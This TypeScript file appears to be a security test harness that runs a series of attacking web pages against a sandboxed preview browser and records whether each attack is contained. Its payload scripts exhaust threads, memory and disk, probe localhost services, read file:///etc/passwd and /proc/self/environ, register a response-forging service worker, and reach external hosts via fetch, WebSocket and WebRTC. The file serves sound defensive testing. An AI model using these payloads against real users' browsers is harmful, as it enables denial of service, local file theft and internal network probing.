import type { ServerResponse } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Attempt, AttemptResult } from "@treadle/workspace";
import { createBrowser } from "./browser.ts";
import { LOOKS } from "./inner-forwarder.ts";
import type { BrowserOptions } from "./types.ts";

const page = (script: string) => `<!doctype html><p>x</p><script>${script}</script>`;
const GOOD = "/good";
/** The path at which the attacking page's server delivers a service worker. */
const WORKER = "/worker.js";
const FORGES = `oninstall = () => skipWaiting(); onactivate = (e) => e.waitUntil(clients.claim()); onfetch = (e) => e.respondWith(new Response("<!doctype html><p>forged", { headers: { "content-type": "text/html" } }))`;
/**
 * Time for each attacking page from the moment it is served, in milliseconds. One that exhausts the
 * browser has done so within half of it.
 */
const ATTACK_MS = 6_000;
/** Time for a page whose attack is over, in milliseconds, before its browser is closed. */
const LEAVE_MS = 2_000;
/**
 * All pages belong to one project, so that they run together; each has its own origin, which
 * identifies it.
 */
const PROJECT = "attack";
const hostOf = (index: number) => `attack${index}.localhost:4173`;

/** A page's attack on the looking browser. `asked`: paths that it requested from its server. */
interface PageAttempt {
  id: string;
  what: string;
  script: string;
  /** Whether it may exhaust the whole browser, so that no other page is opened beside it. */
  isAlone?: boolean;
  /** Whether the attack succeeded; `asked` includes the host. */
  got?(asked: readonly string[]): boolean;
  /** The same, evaluated after the next page was looked at. */
  gotLater?(asked: readonly string[]): boolean;
}

/** Reports what is left of the page before it. */
const REMEMBERS = `(async () => { const all = [localStorage.kept, document.cookie, await caches.has("kept"), (await indexedDB.databases()).length, (await navigator.serviceWorker.getRegistrations()).length]; if (all.some(Boolean)) fetch("/told?kept" + all); })()`;
const describe = (what: string) => `fetch("/told?" + encodeURIComponent(${what}))`;

const ATTEMPTS: readonly PageAttempt[] = [
  {
    id: "A50",
    what: "threads without end, by workers",
    isAlone: true,
    script: `const u = URL.createObjectURL(new Blob(["for(;;);"])); for (let i = 0; i < 2000; i++) new Worker(u)`,
  },
  {
    id: "A50",
    what: "memory without end, outside of the heap",
    isAlone: true,
    script: `const all = []; setInterval(() => { for (let i = 0; i < 8; i++) all.push(new Uint8Array(1 << 26).fill(1)) })`,
  },
  {
    id: "A50",
    what: "processes without end, by frames of many sites",
    isAlone: true,
    script: `for (let i = 0; i < 300; i++) { const f = document.createElement("iframe"); f.src = "http://s" + i + "." + location.host + "/busy"; document.body.append(f) }`,
  },
  {
    id: "A50",
    what: "other windows",
    isAlone: true,
    script: `for (let i = 0; i < 50; i++) open("/busy?" + i); for (;;);`,
  },
  {
    id: "A16",
    what: "a service of this machine, by its number",
    script: `Promise.allSettled(["http://127.0.0.1:PORT/", "http://[::1]:PORT/", "http://0.0.0.0:PORT/"].map((u) => fetch(u, { mode: "no-cors" }).then(() => ${describe("'reached'")})))`,
    got: (asked) => asked.some((path) => path.includes("reached")),
  },
  {
    id: "A64",
    what: "a service of this machine, by its name, with sockets and pictures",
    script: `const here = "localhost:PORT"; const reached = () => ${describe("'reached'")};
      fetch("http://" + here + "/", { mode: "no-cors" }).then(reached, () => 0);
      new WebSocket("ws://" + here + "/").onopen = reached;
      const picture = new Image(); picture.onload = reached; picture.src = "http://" + here + "/favicon.ico";`,
    got: (asked) => asked.some((path) => path.includes("reached")),
  },
  {
    id: "A88",
    what: "downloads without end, of programs by their names",
    isAlone: true,
    script: `for (let i = 0; i < 300; i++) { const a = document.createElement("a"); a.href = URL.createObjectURL(new Blob(["[Desktop Entry]"])); a.download = "x" + i + (i % 2 ? ".desktop" : ".url"); a.click(); }`,
  },
  {
    id: "A62",
    what: "another project's preview, by every way that a page has",
    script: `const to = "://other.localhost:4173/reached";
      fetch("http" + to, { mode: "no-cors" }).catch(() => 0); navigator.sendBeacon("http" + to, "x"); new WebSocket("ws" + to).onerror = () => 0; new EventSource("http" + to);
      for (const [name, key] of [["iframe", "src"], ["img", "src"], ["script", "src"], ["link", "href"], ["object", "data"]]) { const e = document.createElement(name); e.rel = "prefetch"; e[key] = "http" + to; document.body.append(e); }
      const f = document.createElement("form"); f.method = "post"; f.action = "http" + to; document.body.append(f); setTimeout(() => f.submit(), 500);`,
    got: (asked) => asked.some((url) => url.startsWith("other.")),
  },
  {
    id: "A50",
    what: "to answer in its server's place when it is looked at again, and to remember",
    script: `localStorage.kept = 1; document.cookie = "kept=1; max-age=9999"; caches.open("kept"); indexedDB.open("kept"); navigator.serviceWorker.register("${WORKER}")`,
    gotLater: (asked) =>
      asked.some((url) => url.includes("kept")) || !asked.some((url) => url.endsWith(GOOD)),
  },
  {
    id: "A50",
    what: "the disk of this machine, by what a page may store",
    isAlone: true,
    script: `(async () => { const bytes = new Uint8Array(1 << 25).fill(7); const root = await navigator.storage.getDirectory();
      for (let i = 0; ; i++) { const w = await (await root.getFileHandle("f" + i, { create: true })).createWritable(); await w.write(bytes); await w.close(); } })().catch(() => 0);
      (async () => { const c = await caches.open("c"); for (let i = 0; ; i++) await c.put("/" + i, new Response(new Uint8Array(1 << 25))); })().catch(() => 0);`,
  },
  {
    id: "A50",
    what: "questions to the person without end, and to leave for other programs",
    isAlone: true,
    script: `onbeforeunload = () => "stay"; setTimeout(() => { location = "vscode://file/etc/passwd"; open("mailto:a@b.c"); }, 100); navigator.clipboard?.readText().catch(() => 0); for (let i = 0; i < 200; i++) { alert(i); confirm(i); prompt(i); print(); }`,
  },
  {
    id: "A33",
    what: "files of this machine",
    script: `Promise.allSettled(["file:///etc/hostname", "file:///proc/self/environ"].map((u) => fetch(u).then((r) => r.text()).then((t) => ${describe("'file ' + t")}))); location = "file:///etc/passwd"`,
    got: (asked) => asked.some((path) => path.includes("file")),
  },
  {
    id: "A62",
    what: "hosts of the internet, by scripts, workers, sockets, streams and pictures",
    script: `const away = (way) => () => ${describe("'away ' + way")}; const to = "example.com";
      fetch("https://" + to + "/", { mode: "no-cors", keepalive: true }).then(away("fetch"), () => 0);
      new WebSocket("wss://" + to + "/").onopen = away("socket");
      new EventSource("https://" + to + "/").onopen = away("stream");
      const picture = new Image(); picture.onload = away("picture"); picture.src = "https://www." + to + "/favicon.ico";
      const worker = new Worker(URL.createObjectURL(new Blob(['fetch("https://example.com/", { mode: "no-cors" }).then(() => postMessage(1))']))); worker.onmessage = away("worker");
      self.WebTransport && new WebTransport("https://" + to + ":443/").ready.then(away("transport"), () => 0);`,
    got: (asked) => asked.some((path) => path.includes("away")),
  },
  {
    id: "A62",
    what: "the network itself, by WebRTC",
    script: `const peer = new RTCPeerConnection({ iceServers: [{ urls: ["stun:stun.l.google.com:19302", "stun:1.1.1.1:3478"] }, { urls: "turn:1.1.1.1:443?transport=tcp", username: "a", credential: "b" }] });
      peer.onicecandidate = ({ candidate }) => candidate && candidate.candidate && ${describe("'away ' + candidate.candidate")};
      peer.createDataChannel("x"); peer.setLocalDescription();`,
    got: (asked) => asked.some((path) => path.includes("away")),
  },
];

/** Runs each attack in a separate browser, which is removed afterwards. */
export async function attackFromBrowser(options: {
  env: BrowserOptions["env"];
  cacheDirectory?: string;
  /** A port of this machine with a listening service. */
  servicePort?: number;
  onResult?(attempt: Pick<Attempt, "id" | "area" | "what">, result: AttemptResult): void;
}): Promise<(AttemptResult & { what: string })[]> {
  /** Hosts and paths requested by the pages of each group. */
  let asked: string[] = [];
  /** Callbacks by host, each of which starts the time of the attack that the host serves. */
  const starts = new Map<string, () => void>();
  const answer = (url: string, response: ServerResponse, host = "") => {
    asked.push(host + url);
    if (url === "/") starts.get(host)?.();
    const type = url === WORKER ? "text/javascript" : "text/html";
    response.writeHead(200, { "content-type": type });
    const attempt = ATTEMPTS.find((_, index) => hostOf(index) === host);
    const script = attempt?.script.replaceAll("PORT", String(options.servicePort ?? 9)) ?? "";
    if (url === WORKER) response.end(FORGES);
    else if (url.startsWith("/busy")) response.end(page("for (;;);"));
    else response.end(page(url === GOOD ? REMEMBERS : script));
  };
  const browser = createBrowser({
    env: options.env,
    // Until they are closed, some pages keep every processor busy.
    leaveMs: LEAVE_MS,
    cacheDirectory: options.cacheDirectory ?? join(tmpdir(), "treadle-browser-cache"),
    gateway: {
      handle: (request, response) => answer(request.url ?? "/", response, request.headers.host),
      upgrade({ url, headers }, socket) {
        asked.push(`${headers.host}${url}`);
        socket.destroy();
      },
      connect: async () => undefined,
    },
  });

  async function make(attempt: PageAttempt): Promise<AttemptResult> {
    const host = hostOf(ATTEMPTS.indexOf(attempt));
    const isOwn = (url: string) => url.startsWith(host) || !url.startsWith("attack");
    const look = (path: string, signal?: AbortSignal) =>
      browser.look({ origin: `http://${host}`, project: PROJECT, path, signal });
    const timeUp = new AbortController();
    const ms = attempt.isAlone ? ATTACK_MS / 2 : ATTACK_MS;
    starts.set(host, () => setTimeout(() => timeUp.abort(), ms).unref());
    const message = await look("/", timeUp.signal).then(
      (report) => (report.rendered ? "it was looked at" : "nothing was seen of it"),
      (error: Error) => error.message,
    );
    const early = attempt.got?.(asked.filter(isOwn)) ?? false;
    // Whatever it did to its browser, the next page must find a working one.
    const begin = asked.length;
    const next = await look(GOOD).then(
      ({ status }) => status === 200,
      () => false,
    );
    const got = early || (attempt.gotLater?.(asked.slice(begin).filter(isOwn)) ?? false);
    const outcome = got || !next ? "through" : "held";
    const output = `${message}; the next page ${next ? "was" : "was not"} looked at\n`;
    return { outcome, output };
  }

  const results: (AttemptResult & { what: string })[] = [];
  try {
    for (const group of inGroups(ATTEMPTS)) {
      asked = [];
      // Starts the browser first, so that every attack has the full time.
      await browser.available();
      const made = await Promise.all(group.map(make));
      for (const [index, { id, what }] of group.entries()) {
        results.push({ what, ...made[index]! });
        options.onResult?.({ id, area: "browser", what }, made[index]!);
      }
    }
  } finally {
    await browser.close();
  }
  return results;
}

/**
 * Groups attacks: as many at a time as the browser opens in parallel, and those that exhaust it
 * alone.
 */
function inGroups(all: readonly PageAttempt[]): PageAttempt[][] {
  const shared = all.filter(({ isAlone }) => !isAlone);
  const groups = all.filter(({ isAlone }) => isAlone).map((attempt) => [attempt]);
  for (let index = 0; index < shared.length; index += LOOKS)
    groups.push(shared.slice(index, index + LOOKS));
  return groups;
}
